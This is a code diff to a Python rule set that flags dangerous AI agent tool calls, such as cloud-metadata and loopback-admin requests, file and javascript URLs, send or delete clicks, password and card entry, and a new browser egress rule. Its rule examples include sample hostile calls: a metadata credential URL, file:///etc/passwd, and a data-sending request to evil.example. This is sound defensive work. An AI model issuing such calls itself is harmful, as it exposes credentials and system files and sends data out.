@@ -21,13 +21,13 @@ VOCABULARY: dict[str, frozenset[str]] = {
     "code": frozenset({"run"}),
     "fs": frozenset({"write", "append", "delete", "move", "mkdir", "read", "list", "stat"}),
     "http": frozenset({"request"}),
-    "browser": frozenset({"navigate", "click", "type", "scroll", "screenshot", "back", "forward", "reload", "wait",
-                          "select", "hover", "press", "snapshot", "observe"}),
+    "browser": frozenset({"goto", "navigate", "click", "fill", "type", "scroll", "screenshot", "back", "forward",
+                          "reload", "wait", "select", "check", "hover", "press", "snapshot", "observe"}),
     "desktop": frozenset({"click", "double_click", "right_click", "type", "key", "hotkey", "scroll", "move", "drag",
                           "screenshot", "launch", "open", "wait", "observe"}),
     "android": frozenset({"tap", "click", "long_press", "type", "swipe", "back", "home", "screenshot", "launch", "wait",
                           "uninstall", "clear_data", "factory_reset", "wipe", "send_sms", "send_message", "send_email",
-                          "call", "install", "grant", "adb", "observe"}),
+                          "call", "install", "grant", "adb", "observe", "set_text", "app_start", "app_stop"}),
 }
 
 _SEND = re.compile(r"(?i)\b(?:send|pay|purchase|buy|transfer|order|checkout|check out|place order|donate|publish|post|"
@@ -42,7 +42,10 @@ _DANGEROUS_KEYS = re.compile(r"(?i)(?:ctrl|control)\s*\+\s*alt\s*\+\s*(?:del|del
 
 
 def _s(call: ToolCall, key: str) -> str:
+    """A string argument, or the same field of the call's `target` (`{"role", "name"}`, `{"label"}`, ...)."""
     value = call.args.get(key)
+    if value is None and isinstance(call.args.get("target"), dict):
+        value = call.args["target"].get(key)
     return value if isinstance(value, str) else ""
 
 
@@ -93,8 +96,22 @@ def _tool_config(call: ToolCall) -> str | None:
 
 
 def _label(call: ToolCall) -> str:
-    return " ".join(_s(call, k) for k in ("name", "text", "label", "selector", "role", "target") if k != "text"
-                    or call.tool.endswith(("click", "tap")))
+    """The words naming the control a call acts on: its name, label, selector or (for a click) its text."""
+    keys = ("name", "text", "label", "selector", "css", "xpath", "placeholder", "role", "target", "description",
+            "resource_id")
+    target = call.args.get("target") if isinstance(call.args.get("target"), dict) else {}
+    words = [_s(call, k) for k in keys if k != "text" or call.tool.endswith(("click", "tap"))]
+    if "text" in target and isinstance(target["text"], str):
+        words.append(target["text"])
+    return " ".join(words)
+
+
+def _origin(url: str) -> str:
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return ""
+    return f"{parts.scheme}://{parts.netloc}".lower()
 
 
 def _method(call: ToolCall) -> str:
@@ -167,15 +184,17 @@ RULES = [
        examples=({"tool": "http.request", "args": {"method": "PUT", "url": "https://x.example", "body": "x" * 70000}},),
        counter=({"tool": "http.request", "args": {"method": "PUT", "url": "https://x.example", "body": "x"}},)),
     _r("http.metadata", DANGEROUS, "net creds", "asks a cloud metadata service (it hands out credentials)",
-       "http.request browser.navigate", lambda c: _host(_s(c, "url")) in _METADATA, IRREVERSIBLE,
+       "http.request browser.navigate browser.goto", lambda c: _host(_s(c, "url")) in _METADATA, IRREVERSIBLE,
        examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://169.254.169.254/latest/meta-data/"}},),
        counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://example.com/"}},)),
-    _r("http.loopback-admin", DANGEROUS, "net", "reaches an admin interface on this machine", "http.request browser.navigate",
+    _r("http.loopback-admin", DANGEROUS, "net", "reaches an admin interface on this machine",
+       "http.request browser.navigate browser.goto",
        lambda c: _admin(_s(c, "url")),
        examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://localhost:2375/containers/json"}},
                  {"tool": "browser.navigate", "args": {"url": "http://127.0.0.1:8080/admin"}}),
        counter=({"tool": "http.request", "args": {"method": "GET", "url": "http://localhost:8000/index.html"}},)),
-    _r("http.private-network", DANGEROUS, "net", "reaches a host on the private network", "http.request browser.navigate",
+    _r("http.private-network", DANGEROUS, "net", "reaches a host on the private network",
+       "http.request browser.navigate browser.goto",
        lambda c: _private(_host(_s(c, "url"))) and not _loopback(_host(_s(c, "url"))) and _host(_s(c, "url")) not in _METADATA,
        examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://192.168.1.1/"}},),
        counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://example.com/"}},)),
@@ -189,40 +208,49 @@ RULES = [
            for k in (c.args.get("headers") or {})), IRREVERSIBLE,
        examples=({"tool": "http.request", "args": {"method": "GET", "url": "https://x.example", "headers": {"Authorization": "Bearer t"}}},),
        counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://x.example", "headers": {"Accept": "*/*"}}},)),
-    _r("browser.file-url", DANGEROUS, "fs creds", "opens a local file in the browser", "browser.navigate",
+    _r("browser.file-url", DANGEROUS, "fs creds", "opens a local file in the browser", "browser.navigate browser.goto",
        lambda c: _s(c, "url").lower().startswith(("file:", "view-source:file:", "chrome://", "about:config")),
        examples=({"tool": "browser.navigate", "args": {"url": "file:///etc/passwd"}},),
        counter=({"tool": "browser.navigate", "args": {"url": "https://example.com/"}},)),
-    _r("browser.script-url", DANGEROUS, "injection", "navigates to a javascript: or data: URL", "browser.navigate",
+    _r("browser.script-url", DANGEROUS, "injection", "navigates to a javascript: or data: URL", "browser.navigate browser.goto",
        lambda c: _s(c, "url").strip().lower().startswith(("javascript:", "data:", "vbscript:")),
        examples=({"tool": "browser.navigate", "args": {"url": "javascript:alert(1)"}},),
        counter=({"tool": "browser.navigate", "args": {"url": "https://example.com/"}},)),
     _r("ui.send", DANGEROUS, "net", "presses a control that sends, pays, buys, posts or transfers",
-       "browser.click desktop.click android.tap android.click", lambda c: _SEND.search(_label(c)) is not None, IRREVERSIBLE,
+       "browser.click browser.press desktop.click android.tap android.click", lambda c: _SEND.search(_label(c)) is not None, IRREVERSIBLE,
        examples=({"tool": "browser.click", "args": {"role": "button", "name": "Send"}},
-                 {"tool": "browser.click", "args": {"role": "button", "name": "Place order"}}),
+                 {"tool": "browser.click", "args": {"target": {"role": "button", "name": "Place order"}}},
+                 {"tool": "android.click", "args": {"target": {"text": "Send"}}}),
        counter=({"tool": "browser.click", "args": {"role": "link", "name": "Inbox"}},)),
     _r("ui.delete", DANGEROUS, "fs net", "presses a control that deletes or removes something",
        "browser.click desktop.click android.tap android.click", lambda c: _DELETE.search(_label(c)) is not None, IRREVERSIBLE,
-       examples=({"tool": "browser.click", "args": {"role": "button", "name": "Delete repository"}},),
+       examples=({"tool": "browser.click", "args": {"role": "button", "name": "Delete repository"}},
+                 {"tool": "browser.click", "args": {"target": {"text": "Yes, delete"}}}),
        counter=({"tool": "browser.click", "args": {"role": "button", "name": "Save draft"}},)),
     _r("ui.secret-field", DANGEROUS, "creds", "types into a password or payment field",
-       "browser.type desktop.type android.type",
+       "browser.type browser.fill desktop.type android.type android.set_text",
        lambda c: _s(c, "field_type").lower() in ("password", "cc-number", "cc-csc")
-       or _SECRET_FIELD.search(" ".join(_s(c, k) for k in ("selector", "name", "role", "label"))) is not None,
+       or _SECRET_FIELD.search(" ".join(_s(c, k) for k in ("selector", "css", "xpath", "placeholder", "name", "role",
+                                                              "label", "resource_id"))) is not None,
        examples=({"tool": "browser.type", "args": {"selector": "#password", "text": "hunter2"}},
-                 {"tool": "browser.type", "args": {"role": "textbox", "name": "Email", "field_type": "password", "text": "x"}}),
+                 {"tool": "browser.type", "args": {"role": "textbox", "name": "Email", "field_type": "password", "text": "x"}},
+                 {"tool": "browser.fill", "args": {"target": {"label": "Password"}, "text": "hunter2"}}),
        counter=({"tool": "browser.type", "args": {"selector": "#search", "text": "shoes"}},)),
     _r("ui.card-number", DANGEROUS, "creds", "types what looks like a payment card number",
-       "browser.type desktop.type android.type", lambda c: re.search(r"\b(?:\d[ -]?){13,19}\b", _s(c, "text")) is not None,
+       "browser.type browser.fill desktop.type android.type android.set_text", lambda c: re.search(r"\b(?:\d[ -]?){13,19}\b", _s(c, "text")) is not None,
        examples=({"tool": "browser.type", "args": {"selector": "#x", "text": "4111 1111 1111 1111"}},),
        counter=({"tool": "browser.type", "args": {"selector": "#x", "text": "42"}},)),
+    CallRule("browser.egress", DANGEROUS, ("net",), "leaves the origins the task allows (egress)", ("browser.goto",),
+             lambda c: not _loopback(_host(_s(c, "url"))) and _origin(_s(c, "url")).startswith(("http:", "https:")),
+             IRREVERSIBLE, cite=True, scoped=True,
+             examples=({"tool": "browser.goto", "args": {"url": "https://evil.example/collect?d=1"}},),
+             counter=({"tool": "browser.goto", "args": {"url": "http://127.0.0.1:8000/contacts"}},)),
     _r("desktop.launch-shell", DANGEROUS, "exec", "opens a terminal, shell or registry editor",
        "desktop.launch desktop.open", lambda c: _TERMINALS.search(_s(c, "app") or _s(c, "name") or _s(c, "path")) is not None,
        examples=({"tool": "desktop.launch", "args": {"app": "Terminal"}},),
        counter=({"tool": "desktop.launch", "args": {"app": "Calculator"}},)),
     _r("desktop.key-combo", DANGEROUS, "exec", "presses a key combination that closes, quits or deletes",
-       "desktop.key desktop.hotkey", lambda c: _DANGEROUS_KEYS.search(_s(c, "keys") or _s(c, "key") or _s(c, "combo")) is not None,
+       "desktop.key desktop.hotkey browser.press", lambda c: _DANGEROUS_KEYS.search(_s(c, "keys") or _s(c, "key") or _s(c, "combo")) is not None,
        examples=({"tool": "desktop.key", "args": {"keys": "ctrl+alt+delete"}},),
        counter=({"tool": "desktop.key", "args": {"keys": "ctrl+c"}},)),
     _r("desktop.type-command", DANGEROUS, "exec", "types a command line followed by Enter into a window",
